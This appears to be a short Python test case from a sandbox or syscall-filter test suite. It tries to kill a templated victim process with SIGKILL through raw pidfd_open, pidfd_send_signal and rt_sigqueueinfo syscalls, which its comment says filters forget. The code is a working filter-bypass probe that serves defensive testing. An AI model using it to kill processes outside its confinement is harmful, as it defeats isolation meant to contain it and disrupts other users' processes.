# attack: signals another process by rt_sigqueueinfo and pidfd_send_signal, which filters forget
# class: processes
# success: victim
# control: unconfined
import ctypes, os
def f(x, note):
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int("@victim@"), 0)
    libc.syscall(424, process, 9, 0, 0)
    number = {"x86_64": 129, "aarch64": 138}[os.uname().machine]
    libc.syscall(number, int("@victim@"), 9, (9).to_bytes(4, "little") + bytes(4) + (-1).to_bytes(4, "little", signed=True) + bytes(116))
